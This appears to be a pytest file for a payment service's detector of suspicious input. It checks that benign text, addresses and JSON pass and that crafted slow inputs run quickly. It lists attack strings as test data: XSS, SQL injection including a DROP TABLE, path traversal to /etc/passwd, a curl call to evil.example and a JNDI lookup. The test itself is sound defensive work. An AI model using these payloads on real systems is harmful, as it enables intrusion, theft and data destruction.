"""Texts that attackers write are recognised, texts that people write are not, and recognising costs little."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bursar.kernel.http.suspicion import suspicions, suspicions_of_address, suspicions_of_json


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<script>alert(1)</script>", "script"),
        ("<SCRIPT src=//x>", "script"),
        ('<img src=x onerror="alert(1)">', "script"),
        ("<svg/onload=alert(1)>", "script"),
        ("JavaScript:alert(1)", "script"),
        ("1 UNION SELECT password FROM users", "sql"),
        ("' or '1'='1", "sql"),
        ("x'; DROP TABLE payment; --", "sql"),
        ("1; select pg_sleep(10)", "sql"),
        ("../../etc/passwd", "path"),
        ("..\\..\\windows\\win.ini", "path"),
        ("file:///etc/hosts", "path"),
        ("x; cat /etc/hosts", "command"),
        ("$(curl evil.example)", "command"),
        ("a | sh", "command"),
        ("${jndi:ldap://x}", "command"),
    ],
)
def test_what_attackers_write_is_recognised(text, kind):
    assert kind in suspicions(text)


@pytest.mark.parametrize(
    "text",
    [
        "Ten classes; select your own times",
        "O'Reilly",
        "Sam's union; a select few",
        "a | b, R&D && more",
        "Updated: see invoice 12/2026 ... thanks",
        "drop-in, delete later",
        "price < 10 and > 5",
        "https://pay.example.org/a/b?c=d",
        "cus_01kapj5m6rfq1v5wx6h0b1a2c3",
        "jane@example.org",
        "Straße 5, Zürich; 日本語",
        "$10 (or 20%)",
    ],
)
def test_what_people_write_is_not(text):
    assert suspicions(text) == frozenset()


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/v1/payments/../../etc/passwd", ""),
        ("/v1/payments/%2e%2e%2fetc%2fpasswd", ""),
        ("/v1/payments/%252e%252e%252f%252e%252e%252f", ""),
        ("/static/..%5c..%5cwin.ini", ""),
        ("/v1/payments", "status=1+union+select+2"),
        ("/v1/payments", "q=%3Cscript%3E"),
    ],
)
def test_addresses_are_looked_at_as_they_are_decoded(path, query):
    assert suspicions_of_address(path, query)


def test_an_ordinary_address_is_not_suspicious():
    query = "limit=50&cursor=AZqLk_-x&since=2026-01-31T12:00:00Z&status=succeeded&email=jane%2Bx@example.org"

    assert not suspicions_of_address("/v1/customers/cus_01kapj5m6rfq1v5wx6h0b1a2c3/credits", query)


def test_names_and_nested_texts_of_a_body_are_looked_at():
    assert suspicions_of_json({"a": [{"<script>": 1}, {"b": ["../../x"]}], "n": 5}) == {"script", "path"}
    assert suspicions_of_json({"a": [None, 1, True, {"b": "plain"}]}) == frozenset()


@pytest.mark.parametrize(
    "piece",
    [
        "<",
        "<img ",
        "<img" + " " * 99,
        "' or ",
        "union    all    ",
        ";    ",
        "; drop ",
        "..",
        "`" + "a" * 41,
        "|    ",
        " \n",
    ],
)
def test_a_mebibyte_made_to_be_slow_is_not(piece):
    text = (piece * (1_048_576 // len(piece) + 1))[:1_048_576]

    began = time.process_time()
    suspicions(text)

    assert time.process_time() - began < 0.25


@given(st.text() | st.text(alphabet="<>'\"; .|&$`(){}/\\%abunioselctdrp=", max_size=400))
def test_no_text_at_all_is_a_problem(text):
    assert suspicions(text) <= {"command", "path", "script", "sql"}
    suspicions_of_address(text, text)
